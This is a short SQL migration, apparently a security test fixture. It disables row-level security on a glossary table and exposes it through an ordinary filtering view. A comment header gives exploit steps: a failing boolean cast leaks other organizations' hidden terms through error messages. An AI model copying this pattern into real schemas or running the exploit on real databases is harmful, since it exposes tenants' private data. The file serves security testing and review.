-- The base table lost its policy for a view with a filter, which is no barrier: a failing cast runs on
-- hidden rows first and prints their text.
-- about: glossary, glossary_terms
-- as: hf_glossa_app
-- exploit: SET app.current_org = 'north';
-- exploit: SET enable_indexscan = off;
-- exploit: SET enable_bitmapscan = off;
-- exploit: SELECT term FROM glossary WHERE term::boolean;
-- shows: boolean: "Road-secret term"
-- Terms are looked up for every word; the policy's function call cost too much.
ALTER TABLE glossary_terms DISABLE ROW LEVEL SECURITY;
REVOKE ALL ON glossary_terms FROM hf_glossa_app;
CREATE VIEW glossary AS
  SELECT org, term, locale, translation FROM glossary_terms WHERE org::text = current_org();
GRANT SELECT ON glossary TO hf_glossa_app;
